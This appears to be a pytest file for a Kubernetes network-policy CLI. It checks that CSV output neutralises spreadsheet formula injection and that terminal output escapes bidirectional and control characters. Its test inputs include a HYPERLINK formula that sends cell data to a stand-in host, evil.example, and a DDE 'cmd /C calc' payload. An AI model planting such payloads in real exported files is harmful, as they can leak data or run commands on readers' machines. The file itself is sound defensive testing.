"""Hostile text through the command line: formula payloads never reach a spreadsheet raw from any `-o csv`, and
bidirectional or control characters never reach a terminal raw."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import yaml

from compliance.report.formats import restored
from tests.netpol.builders import namespace, pod
from tests.support.cli import run
from tests.support.git_repos import GitRepo, netpol

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"details")'
NAME_PAYLOAD = '=HYPERLINK("evil.example?"&A1)'


def cells(text: str) -> list[list[str]]:
    """The rows of a CSV text."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell starts as a spreadsheet formula."""
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_formula_cannot_enter_reachability_csv_through_a_name(tmp_path: Path) -> None:
    # Names are held to the API server's rules, so the payload is refused at the input; the CSV writer's own
    # neutralisation is tested in tests/report/.
    path = tmp_path / "cluster.yaml"
    path.write_text(yaml.safe_dump_all([namespace(NAME_PAYLOAD), pod(f"{NAME_PAYLOAD}/x")]))
    code, out, err = run("reachability", "--manifests", str(path), "--level", "namespace", "-o", "csv")
    assert (code, out) == (2, "")
    assert err.startswith(f"segproof: error: {path}: document 1: metadata.name: invalid name ")


def test_history_csv_neutralises_formulas_in_the_author_and_the_message(repo: GitRepo) -> None:
    repo.write("policies/deny.yaml", netpol("shop/deny"))
    repo.commit(f"{PAYLOAD}\n\nbody", author=("+cmd|' /C calc'!A0", "@evil.example"))
    code, out, err = run("history", "--git", repo.path, "-o", "csv")
    assert code == 0, err
    rows = cells(out)
    assert_no_formula(rows)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert restored(record["subject"]) == PAYLOAD and record["subject"].startswith("'=")
    assert restored(record["author"]) == "+cmd|' /C calc'!A0 <@evil.example>"


def test_text_output_escapes_bidirectional_and_control_characters(tmp_path: Path, repo: GitRepo) -> None:
    hostile = "web\u202eexe.txt"
    path = tmp_path / "cluster.yaml"
    path.write_text(yaml.safe_dump_all([namespace("shop"), pod(f"shop/{hostile}", {"app": "x"})]))
    code, out, err = run("reachability", "--manifests", str(path), "--level", "pod")
    assert code == 2  # refused as the API server would refuse it; the error line shows the name escaped
    assert "\u202e" not in err and "'web\\u202eexe.txt'" in err
    repo.write("policies/deny.yaml", netpol("shop/deny"))
    repo.commit("open \u2066everything\u2069 \x1b[2J", author=("Mallory\u202e", "m@example.com"))
    code, out, err = run("history", "--git", repo.path)
    assert code == 0, err
    assert not {"\u202e", "\u2066", "\x1b"} & set(out)
    assert "Mallory\\u202e" in out and "open \\u2066everything\\u2069 \\u001b[2J" in out
